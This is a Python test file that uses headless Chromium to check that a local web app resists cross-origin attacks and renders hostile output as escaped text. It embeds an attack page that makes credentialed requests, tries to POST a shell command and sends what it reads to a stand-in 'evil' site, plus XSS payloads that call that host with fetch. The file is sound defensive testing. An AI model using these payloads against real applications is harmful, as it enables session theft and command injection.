"""What a real browser does with a foreign page's requests, and with hostile text on the plain page."""

import http.server
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from time import monotonic, sleep
from urllib.parse import parse_qs, urlsplit

import pytest
from typing_extensions import override

from tests.attacks.stage import Target
from tests.ports import free_port
from tests.servers import Place, new_session, run_prompt

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
SECONDS = 60
FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-proxy-server",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
)

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on the PATH"),
    pytest.mark.timeout(180),
]

HOSTILE = (
    "<img src=x onerror=fetch('{evil}/?ran=img')><svg onload=fetch('{evil}/?ran=svg')>"
    "<script>fetch('{evil}/?ran=script')</script><iframe srcdoc='<script>1</script>'></iframe>"
)
# What a page of another site tries; what it could read it sends home.
ATTACK = """<!doctype html><title>evil</title><script>
const tell = (key, value) => fetch(`/?${key}=${encodeURIComponent(value)}`);
const tried = (what) => () => tell("tried", what);
const session = "SERVER/api/session/SESSION";
const source = new EventSource(`${session}/events?after=0`, {withCredentials: true});
source.addEventListener("connected", () => tell("read", "stream"));
source.onerror = tried("stream");
const list = fetch("SERVER/api/sessions", {credentials: "include"});
list.then((answer) => answer.text()).then((text) => tell("read", text), tried("list"));
const order = (type, mode) => fetch(`${session}/prompt`, {
  method: "POST", credentials: "include", mode, headers: {"Content-Type": type}, body: '{"command": "touch came-in"}',
});
order("text/plain", "no-cors").then(tried("prompt"), tried("prompt"));
order("application/json", "cors").then(() => tell("read", "answer"), tried("json"));
const socket = new WebSocket(`${session}/events`.replace("http", "ws"));
socket.onopen = () => tell("read", "socket");
socket.onerror = tried("socket");
</script>"""
ATTEMPTS = {"stream", "list", "prompt", "json", "socket"}


class EvilSite:
    """Another origin: serves one page, and notes what is sent home."""

    def __init__(self) -> None:
        self.page = b""
        self.sent: dict[str, list[str]] = {}
        self.port = free_port()
        self.url = f"http://localhost:{self.port}"  # another site than 127.0.0.1


@contextmanager
def evil_site() -> Iterator[EvilSite]:
    site = EvilSite()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            for name, values in parse_qs(urlsplit(self.path).query).items():
                site.sent.setdefault(name, []).extend(values)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(site.page)

        @override
        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", site.port), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def visit(profile: Path, url: str) -> str:
    """Open a page, give it five seconds of its own time, and return what it became."""
    assert CHROMIUM
    done = subprocess.run(
        [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", "--virtual-time-budget=5000", "--dump-dom", url],
        capture_output=True,
        text=True,
        timeout=SECONDS,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Target]:
    place = Place(tmp_path)
    with place.serving() as server:
        yield Target(place, server)


def delete_once_watched(target: Target, session: str) -> None:
    """End the stream that a page follows: a browser's own time stands still while one is open."""
    deadline = monotonic() + SECONDS
    with target.place.client() as owner:
        path = f"/api/session/{session}"
        while not owner.get(f"{path}/events/status").json()["activeConnections"] and monotonic() < deadline:
            sleep(0.05)
        owner.delete(path)


def log_in(target: Target, profile: Path) -> None:
    with target.place.client() as owner:
        code = owner.post("/api/login-codes").json()["code"]
    visit(profile, f"{target.origin}/login#{code}")


def test_a_foreign_page_in_a_browser_that_is_logged_in_reads_and_does_nothing(target: Target, tmp_path: Path) -> None:
    profile = tmp_path / "profile"
    log_in(target, profile)
    assert "the owner's" in visit(profile, f"{target.origin}/sessions")
    with evil_site() as site, target.untouched():
        site.page = ATTACK.replace("SERVER", target.origin).replace("SESSION", target.session).encode()

        visit(profile, site.url)

        assert set(site.sent["tried"]) == ATTEMPTS
        assert "read" not in site.sent


def test_hostile_output_is_text_in_a_browser_and_reaches_nobody(target: Target, tmp_path: Path) -> None:
    profile = tmp_path / "profile"
    with evil_site() as site:
        hostile = HOSTILE.format(evil=site.url)
        with target.place.client() as owner:
            session = new_session(owner, title="<img src=x onerror=alert(1)>")
            run_prompt(owner, session, f"cat <<'END'\n{hostile}\nEND\necho shown")
        log_in(target, profile)

        listed = visit(profile, f"{target.origin}/sessions")
        ending = threading.Thread(target=delete_once_watched, args=(target, session))
        ending.start()
        shown = visit(profile, f"{target.origin}/session/{session}")
        ending.join()

        assert "shown" in shown
        assert "&lt;img src=x onerror=fetch(" in shown
        assert "&lt;img src=x onerror=alert(1)&gt;" in listed
        assert site.sent == {}
